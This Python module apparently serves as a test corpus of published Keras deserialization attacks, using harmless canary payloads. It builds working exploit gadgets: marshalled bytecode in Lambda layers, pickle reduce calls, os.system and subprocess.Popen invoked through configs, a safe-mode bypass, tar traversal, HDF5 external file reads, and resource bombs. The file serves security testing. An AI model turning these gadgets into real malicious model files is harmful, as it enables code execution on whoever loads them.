"""What has been published of 2024–26 against people who load a Keras model of somebody else, each with a payload that only sings.

A node stands where a layer of a captured model stood; bytes stand in the place of a file that a task brings (`model`, `state`, `data/0`).
"""

from __future__ import annotations

import base64
import codecs
import dataclasses
import io
import json
import marshal
import os
import pathlib
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from typing import Any

import h5py
import numpy as np

Node = dict[str, Any]
PAST = 1_000_000_000  # seconds; a file read for the first time since then shows it, also where times of access are kept lazily


@dataclasses.dataclass(frozen=True)
class Canary:
    """A file that does not exist unless a payload runs, one that nobody may read, one to be unpacked, and an address that nobody calls."""

    folder: pathlib.Path
    port: int

    @property
    def song(self) -> pathlib.Path:
        return self.folder / "song"

    @property
    def secret(self) -> pathlib.Path:
        return self.folder / "secret.txt"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/payload.tar"

    def settle(self) -> None:
        self.folder.mkdir(parents=True, exist_ok=True)
        self.secret.write_text("a word\nof the secret\n")
        os.utime(self.secret, (PAST, PAST + 1))

    def sung(self) -> list[str]:
        """What a payload has done, as far as files show it."""
        found = [path.name for path in self.folder.rglob("*song*")]
        return [*found, *(["secret read"] if self.secret.stat().st_atime != PAST else [])]


Payload = Callable[[Canary], Any]


@dataclasses.dataclass(frozen=True)
class Attack:
    """`payload` makes a node for the model's graph, or the bytes of the file `of` the task. `sings`: it does when Keras' safe mode is off,
    as it did to the people to whom it was published; the others are stopped by this version of Keras in any mode, or by who reads the file.
    """

    name: str
    published: str  # where
    payload: Payload
    of: str = ""
    sings: bool = False


ATTACKS: list[Attack] = []


def attack(name: str, published: str, of: str = "", sings: bool = False) -> Callable[[Payload], Payload]:
    def add(payload: Payload) -> Payload:
        ATTACKS.append(Attack(name, published, payload, of, sings))
        return payload

    return add


def layer(of_class: str, of_module: str = "keras.layers", registered: str | None = None, /, **config: Any) -> Node:
    return {"module": of_module, "class_name": of_class, "config": config, "registered_name": registered}


def function(module: str, name: str) -> Node:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def marshalled(canary: Canary) -> Node:
    code = eval(f"lambda x: (open({str(canary.song)!r}, 'w').close(), x)[1]").__code__
    text = codecs.encode(marshal.dumps(code), "base64").decode("ascii")
    return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}


class _Singer:
    def __init__(self, canary: Canary) -> None:
        self._song = str(canary.song)

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.mkdir, (self._song,))


def pickled(canary: Canary) -> bytes:
    return pickle.dumps(_Singer(canary))


def singing_tar(canary: Canary, hard: bool = False) -> bytes:
    """An archive whose member leaves the folder that it is unpacked into."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        if hard:
            link = tarfile.TarInfo("link")
            link.type, link.linkname = tarfile.LNKTYPE, str(canary.secret)
            archive.addfile(link)
        member = tarfile.TarInfo(f"../{canary.folder.name}/song")
        archive.addfile(member, io.BytesIO())
    return packed.getvalue()


def keras_file(config: Node, weights: bytes = b"") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights)
    return packed.getvalue()


def hdf5(fill: Callable[[h5py.File], Any]) -> bytes:
    packed = io.BytesIO()
    with h5py.File(packed, "w") as file:
        fill(file)
    return packed.getvalue()


def npy(header: str, body: bytes) -> bytes:
    head = header.encode().ljust(118) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


def sequential(*layers: Node) -> Node:
    first = layer("InputLayer", batch_shape=[None, 4], dtype="float32", name="first")
    return layer("Sequential", "keras", name="theirs", layers=[first, *layers])


# --- code in the graph


@attack("marshalled bytecode in a Lambda", "CVE-2024-3660", sings=True)
def bytecode(canary: Canary) -> Node:
    return layer("Lambda", function=marshalled(canary))


@attack("bytecode as the output shape of a Lambda", "CVE-2024-3660", sings=True)
def bytecode_of_shape(canary: Canary) -> Node:
    return layer("Lambda", function=function("keras.activations", "linear"), output_shape=marshalled(canary))


@attack("a Lambda whose node names no module goes to the old loader", "keras-team/keras#23048", sings=True)
def without_module(canary: Canary) -> Node:
    return {"class_name": "Lambda", "config": {"function": marshalled(canary)}}


@attack("a Lambda as the old format wrote it", "CVE-2025-9905", sings=True)
def old_lambda(canary: Canary) -> Node:
    code = marshalled(canary)["config"]["code"]
    return {"class_name": "Lambda", "config": {"function": [code, None, None], "function_type": "lambda", "module": "x"}}


@attack("bytecode in the place of an activation", "CVE-2024-3660", sings=True)
def bytecode_activation(canary: Canary) -> Node:
    return layer("Activation", activation={"class_name": "__lambda__", "config": {"value": marshalled(canary)["config"]["code"]}})


@attack("a Lambda in a wrapper in a wrapper", "huntr, registered and nested objects", sings=True)
def nested(canary: Canary) -> Node:
    inner = layer("TimeDistributed", layer=layer("Lambda", function=marshalled(canary), name="inner"), name="outer")
    return sequential(layer("Reshape", target_shape=[4, 1], name="a"), inner, layer("Flatten", name="b"))


@attack("a Lambda sixty models deep", "huntr, registered and nested objects", sings=True)
def buried(canary: Canary) -> Node:
    node = layer("Lambda", function=marshalled(canary))
    for _ in range(60):
        node = sequential(node)
    return node


@attack("any function of any module", "CVE-2025-1550")
def any_function(canary: Canary) -> Node:
    arguments = {"mode": "w"}
    return layer("Lambda", function=function("builtins", "open"), arguments=arguments) | {
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": str(canary.song)}}]
    }


@attack("a shell by os.system", "CVE-2025-1550")
def shell(canary: Canary) -> Node:
    called = [{"args": [], "kwargs": {"inputs": f"touch {canary.song}"}}]
    return layer("Lambda", function=function("os", "system")) | {"inbound_nodes": called}


@attack("any class of any module", "CVE-2025-1550")
def any_class(canary: Canary) -> Node:
    return layer("Popen", "subprocess", args=["touch", str(canary.song)])


@attack("an activation that is a function of any module", "CVE-2025-1550")
def foreign_activation(canary: Canary) -> Node:
    return layer("Dense", units=4, activation=function("os", "system"), name=f"touch {canary.song}")


@attack("a type specification of any module", "CVE-2025-1550")
def typespec(canary: Canary) -> Node:
    return {
        "class_name": "__typespec__", "spec_name": "Popen", "registered_name": "Popen", "module": "subprocess",
        "config": ["touch", str(canary.song)],
    }  # fmt: skip


@attack("get_file fetches what is named", "CVE-2025-8747")
def fetching(canary: Canary) -> Node:
    arguments = {"origin": canary.url, "cache_dir": str(canary.folder), "cache_subdir": "", "extract": True}
    called = [{"args": [], "kwargs": {"inputs": "song"}}]
    return layer("Lambda", function=function("keras.utils", "get_file"), arguments=arguments) | {"inbound_nodes": called}


@attack("get_file by its name inside Keras", "CVE-2025-8747")
def fetching_inside(canary: Canary) -> Node:
    return fetching(canary) | {"config": {**fetching(canary)["config"], "function": function("keras.src.utils.file_utils", "get_file")}}


def _unpacking(canary: Canary, hard: bool) -> Node:
    (canary.folder / "evil.tar").write_bytes(singing_tar(canary, hard))
    arguments = {"origin": f"file://{canary.folder}/evil.tar", "cache_dir": str(canary.folder), "cache_subdir": "unpacked", "extract": True}
    called = [{"args": [], "kwargs": {"inputs": "evil"}}]
    return layer("Lambda", function=function("keras.utils", "get_file"), arguments=arguments) | {"inbound_nodes": called}


@attack("an archive that leaves its folder", "CVE-2025-12060, CVE-2025-12638, CVE-2024-55459")
def traversal(canary: Canary) -> Node:
    return _unpacking(canary, hard=False)


@attack("an archive with a hard link out of its folder", "keras-team/keras#22973, #23015")
def hard_link(canary: Canary) -> Node:
    return _unpacking(canary, hard=True)


@attack("safe mode switched off from the inside", "CVE-2025-9906")
def unsafe(canary: Canary) -> Node:
    off = layer("Lambda", function=function("keras.config", "enable_unsafe_deserialization"), name="off")
    return sequential(off, layer("Lambda", function=marshalled(canary), name="then"))


@attack("safe mode switched off by Keras' global state", "CVE-2025-9906")
def unsafe_state(canary: Canary) -> Node:
    setting = layer("Lambda", function=function("keras.src.backend.common.global_state", "set_global_attribute"), name="off")
    setting["config"]["arguments"] = {"value": False}
    setting["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": "safe_mode_saving"}}]
    return sequential(setting, layer("Lambda", function=marshalled(canary), name="then"))


@attack("load_model of a second file, unsafely", "CVE-2025-9906")
def second_file(canary: Canary) -> Node:
    (canary.folder / "second.keras").write_bytes(keras_file(sequential(layer("Lambda", function=marshalled(canary), name="then"))))
    loading = layer("Lambda", function=function("keras.models", "load_model"), arguments={"safe_mode": False})
    return loading | {"inbound_nodes": [{"args": [], "kwargs": {"inputs": str(canary.folder / "second.keras")}}]}


@attack("a pickle in a TorchModuleWrapper", "CVE-2025-49655")
def torch_module(canary: Canary) -> Node:
    return layer("TorchModuleWrapper", module=base64.b64encode(pickled(canary)).decode(), name="torch")


@attack("a SavedModel in a TFSMLayer", "CVE-2026-1462", sings=True)
def saved_model(canary: Canary) -> Node:
    import tensorflow as tf

    class Writing(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4])])
        def serve(self, x: Any) -> Any:
            tf.io.write_file(str(canary.song), "sung")
            return x

    tf.saved_model.save(Writing(), str(canary.folder / "saved"))
    return layer("TFSMLayer", filepath=str(canary.folder / "saved"), call_endpoint="serve", name="tfsm")


@attack("a JaxLayer with functions of its own", "keras.layers.JaxLayer, the same gadget")
def jax_layer(canary: Canary) -> Node:
    code = {"class_name": "__lambda__", "config": {"value": marshalled(canary)["config"]["code"]}}
    return layer("JaxLayer", call_fn=code, init_fn=code, params=None, state=None, seed=1, name="jax")


@attack("a FlaxLayer with a module of its own", "keras.layers.FlaxLayer, the same gadget")
def flax_layer(canary: Canary) -> Node:
    return layer("FlaxLayer", module=layer("Popen", "subprocess", args=["touch", str(canary.song)]), method="__call__", name="flax")


@attack("an operation that calls a function by name", "CVE-2025-8747, other callers")
def calling(canary: Canary) -> Node:
    return layer("Map", "keras.src.ops.core", name="map") | {"inbound_nodes": [{"args": [function("os", "system")], "kwargs": {}}]}


@attack("a class that is registered under a name of Keras'", "keras-team/keras#22779")
def hijacked(canary: Canary) -> Node:
    return layer("Dense", "keras.layers", "theirs>Dense", units=4, name=str(canary.song))


@attack("an application that fetches its weights", "CVE-2025-8747, other callers")
def application(canary: Canary) -> Node:
    return layer("Lambda", function=function("keras.applications", "VGG16"), arguments={"weights": canary.url}, name="app")


@attack("a callback that writes, as a layer", "CVE-2025-1550, classes of Keras")
def callback(canary: Canary) -> Node:
    return layer("CSVLogger", "keras.callbacks", filename=str(canary.song))


@attack("an exporter, as a layer", "CVE-2025-1550, classes of Keras")
def exporter(canary: Canary) -> Node:
    return layer("KerasFileEditor", "keras.saving", filepath=str(canary.secret))


# --- files and addresses that a layer opens


@attack("StringLookup reads a file", "CVE-2025-12058", sings=True)
def vocabulary(canary: Canary) -> Node:
    return layer("StringLookup", vocabulary=str(canary.secret), name="words")


@attack("TextVectorization reads a file", "CVE-2025-12058", sings=True)
def text_vocabulary(canary: Canary) -> Node:
    return layer("TextVectorization", vocabulary=str(canary.secret), standardize=None, split=None, ngrams=None, name="text")


@attack("IntegerLookup reads a file", "CVE-2025-12058", sings=True)
def integers(canary: Canary) -> Node:
    return layer("IntegerLookup", vocabulary=str(canary.secret), vocabulary_dtype="int64", name="integers")


@attack("StringLookup calls an address", "CVE-2025-12058")
def vocabulary_url(canary: Canary) -> Node:
    return layer("StringLookup", vocabulary=canary.url, name="words")


@attack("a vocabulary by its relative path", "CVE-2025-12058", sings=True)
def relative(canary: Canary) -> Node:
    return layer("StringLookup", vocabulary=f"../../{canary.folder.name}/{canary.secret.name}", name="words")


@attack("weights of idf by a path", "CVE-2025-12058")
def idf(canary: Canary) -> Node:
    return layer("StringLookup", vocabulary=["a"], idf_weights=str(canary.secret), output_mode="tf_idf", name="words")


# --- bombs


@attack("a layer of 2^40 units", "CVE-2026-0897, shapes in the configuration")
def units(canary: Canary) -> Node:
    return layer("Dense", units=1 << 40, name="wide")


@attack("a layer of 8 GiB", "CVE-2026-0897, shapes in the configuration")
def gibibytes(canary: Canary) -> Node:
    return layer("Dense", units=1 << 29, name="wide")


@attack("a lookup of 2^33 numbers at once", "CVE-2026-0897, shapes in the configuration")
def encoded(canary: Canary) -> Node:
    return layer("CategoryEncoding", num_tokens=1 << 33, name="encoded")


@attack("a kernel larger than any image", "CVE-2026-0897, shapes in the configuration")
def kernel(canary: Canary) -> Node:
    reshaped = layer("Reshape", target_shape=[2, 2, 1], name="reshaped")
    return sequential(reshaped, layer("Conv2D", filters=1 << 20, kernel_size=[1 << 16, 1 << 16], name="kernel"))


@attack("nested beyond any stack", "deep configurations", of="model")
def deep(canary: Canary) -> bytes:
    return b'{"v": 1, "compile": {}, "globals": {}, "trainable": {}, "policies": [], "no_decay": [], "model": ' + b"[" * 90_000


@attack("HDF5 that declares more than it holds", "CVE-2026-0897, keras-team/keras#22975", of="state")
def hdf5_bomb(canary: Canary) -> bytes:
    return hdf5(lambda file: file.create_dataset("d", shape=(1 << 36,), dtype="float32", chunks=(1 << 16,), compression="gzip"))


@attack("a .keras archive with a weight file that unpacks to 4 GiB", "keras-team/keras#23010", of="state")
def zip_bomb(canary: Canary) -> bytes:
    return keras_file(sequential(), bytes(64 << 20))


@attack("an array that declares more than it holds", "keras-team/keras#23016", of="data/0")
def array_bomb(canary: Canary) -> bytes:
    return npy(f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({1 << 40},), }}", bytes(16))


@attack("weights that declare more than they hold", "keras-team/keras#23016", of="state")
def tensor_bomb(canary: Canary) -> bytes:
    head = json.dumps({"model/0": {"dtype": "F32", "shape": [1 << 36], "data_offsets": [0, 1 << 38]}}).encode()
    return struct.pack("<Q", len(head)) + head


# --- files that are programs


@attack("a Lambda in an .h5 file", "CVE-2025-9905", of="state")
def hdf5_lambda(canary: Canary) -> bytes:
    config = json.dumps(sequential(layer("Lambda", function=marshalled(canary), name="lambda")))
    return hdf5(lambda file: file.attrs.update(model_config=config, keras_version="2.13.0", backend="tensorflow"))


@attack("HDF5 whose bytes lie in another file", "CVE-2026-1669", of="state")
def hdf5_external(canary: Canary) -> bytes:
    return hdf5(lambda file: file.create_dataset("d", shape=(8,), dtype="uint8", external=[(str(canary.secret), 0, 8)]))


@attack("HDF5 that maps another file", "keras-team/keras#22976", of="state")
def hdf5_virtual(canary: Canary) -> bytes:
    layout = h5py.VirtualLayout(shape=(8,), dtype="uint8")
    layout[:] = h5py.VirtualSource(str(canary.secret), "d", shape=(8,))
    return hdf5(lambda file: file.create_virtual_dataset("d", layout))


@attack("a .keras archive with a Lambda", "CVE-2024-3660", of="state")
def archive(canary: Canary) -> bytes:
    return keras_file(sequential(layer("Lambda", function=marshalled(canary), name="lambda")))


@attack("an archive that leaves its folder, as weights", "CVE-2025-12060", of="state")
def tar(canary: Canary) -> bytes:
    return singing_tar(canary)


@attack("pickled weights", "CVE-2025-49655", of="state")
def weights(canary: Canary) -> bytes:
    return pickled(canary)


@attack("pickled objects in an array", "keras-team/keras#23034", of="data/0")
def objects(canary: Canary) -> bytes:
    packed = io.BytesIO()
    np.save(packed, np.array([_Singer(canary)], dtype=object), allow_pickle=True)
    return packed.getvalue()


@attack("pickled objects in an archive of arrays", "keras-team/keras#23034", of="data/0")
def object_archive(canary: Canary) -> bytes:
    packed = io.BytesIO()
    np.savez(packed, x=np.array([_Singer(canary)], dtype=object))
    return packed.getvalue()


@attack("a pickle in the place of the model", "CVE-2025-49655", of="model")
def pickled_model(canary: Canary) -> bytes:
    return pickled(canary)


@attack("a .keras archive in the place of the model", "CVE-2025-1550", of="model")
def archive_model(canary: Canary) -> bytes:
    return archive(canary)
